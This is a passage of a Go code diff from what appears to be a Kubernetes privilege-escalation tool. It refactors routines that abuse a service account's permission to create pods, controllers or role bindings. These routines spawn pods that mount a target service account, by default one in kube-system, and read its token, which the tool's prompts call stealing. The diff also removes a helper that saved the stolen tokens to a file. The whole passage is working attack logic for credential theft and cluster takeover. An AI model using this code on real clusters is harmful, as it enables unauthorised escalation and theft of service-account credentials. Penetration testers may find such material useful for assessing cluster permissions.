+				token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "createrolebindings")
 				if err != nil {
 					fmt.Println("[X] File read error")
 					fmt.Println("[error msg]:", err.Error())
@@ -688,7 +634,7 @@ func Createrolebindings(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (
 	return false, nil
 }
 
-func Createpods(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Createpods(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"createpods"})
 	if flag1 {
 		rand.Seed(time.Now().UnixNano())
@@ -697,22 +643,18 @@ func Createpods(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, er
 		for _, criticalSA := range criticalSAs1 {
 			targetSa := "clusterrole-aggregation-controller"
 			targetSaNamespace := "kube-system"
-			flag := "N"
 			flag2 := false
 			if criticalSA.Level == "cluster" || criticalSA.SA.Type[10:] == "[kube-system]" {
 				flag2 = true
 			} else {
 				targetSaNamespace = strings.Trim(criticalSA.SA.Type[strings.Index(criticalSA.SA.Type, "["):], "[]")
 				fmt.Println("[!] Does not have createpods permission under kube-system, the SA permission is limited to: " + targetSaNamespace)
-				fmt.Print("[Y/N] Whether to perform privilege escalation under this ns: ")
-				fmt.Scan(&flag)
-				if strings.ToUpper(flag) != "Y" {
+				if !confirm(p, "[Y/N] Whether to perform privilege escalation under this ns: ") {
 					continue
 				}
-				fmt.Println("[input] Enter an SA under the namespace that you want to steal.")
-				fmt.Scan(&targetSa)
+				targetSa = input(p, "target-sa", "[input] Enter an SA under the namespace that you want to steal.\n")
 			}
-			token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "createpods")
 			if err != nil {
 				fmt.Println("[X] File read error")
 				fmt.Println("[error msg]:", err.Error())
@@ -724,6 +666,12 @@ func Createpods(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, er
 				fmt.Println("[error msg]:", err.Error())
 				continue
 			}
+			if skipDryRun("reading the token mounted by the created pod") {
+				if flag2 {
+					return true, nil
+				}
+				continue
+			}
 			time.Sleep(2 * time.Second)
 			clientset,err := request.GetClientSet("")
 			if err!=nil{
@@ -742,7 +690,7 @@ func Createpods(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, er
 					},
 				},
 			}
-			result, err := scan.GetCriticalSAToken(tmpSa, ssh)
+			result, err := criticalSAToken(tmpSa, ssh, targetSaNamespace, "createpods")
 			if err != nil {
 				fmt.Println("[X] Failed to read the SAToken mounted by the created Pod.")
 				fmt.Println("[error msg]:", err.Error())
@@ -758,7 +706,7 @@ func Createpods(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, er
 	return false, nil
 }
 
-func Createpodcontrollers(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Createpodcontrollers(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	//Automation part
 	flag, criticalSAs1 := Check1(criticalSAs, []string{"createdeployments", "createdaemonsets", "createstatefulsets", "createreplicasets", "createjobs", "createcronjobs"})
 	if flag {
@@ -767,7 +715,6 @@ func Createpodcontrollers(criticalSAs []models.CriticalSA, ssh models.SSHConfig)
 		randomNumber := rand.Intn(10000)
 		var podControllerName = "my-pod" + strconv.Itoa(randomNumber)
 		for _, criticalSA := range criticalSAs1 {
-			flag := "N"
 			flag2 := false
 			targetSa := "clusterrole-aggregation-controller"
 			targetSaNamespace := "kube-system"
@@ -776,13 +723,10 @@ func Createpodcontrollers(criticalSAs []models.CriticalSA, ssh models.SSHConfig)
 			} else {
 				targetSaNamespace = strings.Trim(criticalSA.SA.Type[strings.Index(criticalSA.SA.Type, "["):], "[]")
 				fmt.Println("[!] Does not have createpodcontroller permission under kube-system. The SA permission is limited to: " + targetSaNamespace)
-				fmt.Print("[Y/N] Whether to perform privilege escalation under this ns: ")
-				fmt.Scan(&flag)
-				if strings.ToUpper(flag) != "Y" {
+				if !confirm(p, "[Y/N] Whether to perform privilege escalation under this ns: ") {
 					continue
 				}
-				fmt.Println("[input] Enter an SA under the namespace that you want to steal.")
-				fmt.Scan(&targetSa)
+				targetSa = input(p, "target-sa", "[input] Enter an SA under the namespace that you want to steal.\n")
 			}
 			cnt := strings.Index(criticalSA.SA.Type, "[")
 			if cnt == -1 {
@@ -790,7 +734,7 @@ func Createpodcontrollers(criticalSAs []models.CriticalSA, ssh models.SSHConfig)
 			} else {
 				controllerType = criticalSA.SA.Type[6:cnt]
 			}
-			token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "createpodcontrollers")
 			if err != nil {
 				fmt.Println("[X] File read error")
 				fmt.Println("[error msg]:", err.Error())
@@ -800,6 +744,12 @@ func Createpodcontrollers(criticalSAs []models.CriticalSA, ssh models.SSHConfig)
 				fmt.Println("[X] Error when CreatePodController")
 				fmt.Println("[error msg]:", err.Error())
 			}
+			if skipDryRun("reading the token mounted by the pods of the created controller") {
+				if flag2 {
+					return true, nil
+				}
+				continue
+			}
 
 			if controllerType == "cronjobs" {
 				fmt.Println("[!] Cronjobs are created, and you need to wait for 1 minute to obtain the token...")
@@ -831,7 +781,7 @@ func Createpodcontrollers(criticalSAs []models.CriticalSA, ssh models.SSHConfig)
 					},
 				},
 			}
-			result, err := scan.GetCriticalSAToken(tmpSa, ssh)
+			result, err := criticalSAToken(tmpSa, ssh, targetSaNamespace, "createpodcontrollers")
 			if err != nil {
 				fmt.Println("[X] Failed to read the SAToken mounted by the created PodController.")
 				fmt.Print("[error msg]:", err.Error())
@@ -908,44 +858,3 @@ func Check1(criticalSAs []models.CriticalSA, permissionTypes []string) (bool, []
 	return flag, result
 }
 
-// Specify name-type-token when writing; only need to specify the desired permissionType when reading
-func PersistToken(operator string, saName string, permissionType string, token string) interface{} {
-	fileName := "data.json"
-	fields := make([]map[string]interface{}, 0)
-	data, _ := os.ReadFile(fileName)
-	err := json.Unmarshal(data, &fields)
-	if err != nil {
-		log.Fatal(err)
-	}
-
-	if operator == "write" {
-		token := &models.SAtoken{
-			SaName:         saName,
-			PermissionType: permissionType,
-			Token:          token,
-		}
-		tp := reflect.TypeOf(token).Elem()
-		vp := reflect.ValueOf(token).Elem()
-		field := make(map[string]interface{}, 0)
-		for i := 0; i < tp.NumField(); i++ {
-			field1 := tp.Field(i)
-			field2 := vp.Field(i)
-			key := field1.Tag.Get("json")
-			field[key] = field2.Interface()
-		}
-		fields = append(fields, field)
-		out, _ := json.Marshal(fields)
-		_ = os.WriteFile(fileName, out, 0755)
-		return ""
-	}
-	if operator == "read" {
-		//fmt.Print(fields)
-		for _, token := range fields {
-			if token["type"] == permissionType {
-				return token["token"]
-			}
-		}
-		return ""
-	}
-	return ""
-}